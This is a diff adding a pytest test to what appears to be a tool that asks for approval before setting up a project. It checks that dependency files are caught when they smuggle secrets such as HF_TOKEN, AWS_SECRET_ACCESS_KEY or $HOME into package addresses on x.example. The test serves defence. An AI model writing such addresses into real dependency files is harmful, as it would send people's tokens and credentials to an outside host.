@@ -416,6 +416,22 @@ def test_a_program_that_setting_up_runs_needs_more_than_yes(victim):
     assert "--approve" in found.error["hint"]
 
 
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("requirements.txt", "six @ https://x.example/${HF_TOKEN}/six.whl\n"),
+        ("requirements.txt", "-i https://${AWS_SECRET_ACCESS_KEY}@x.example/s\nsix\n"),
+        ("environment.yml", "dependencies: [{pip: ['-i https://x.example/$HOME', six]}]\n"),
+    ],
+)
+def test_no_variable_of_the_person_is_sent_on_a_yes_to_everything(victim, name, text):
+    """pip and uv replace variables in addresses by their values."""
+    found = attempt(victim, carrying(**{name: text}))
+    assert (found.outcome, found.exit_code) == ("planned", 5)
+    assert "a variable of yours would go to that address" in found.error["message"]
+    assert "--approve" in found.error["hint"]
+
+
 def test_nothing_is_fetched_on_a_yes_to_something_else(victim):
     git = {"path": "https://x.example/o/r", "commit id": "abcdef1"}
     found = attempt(victim, carrying(**SIX, git=git), "--clone")
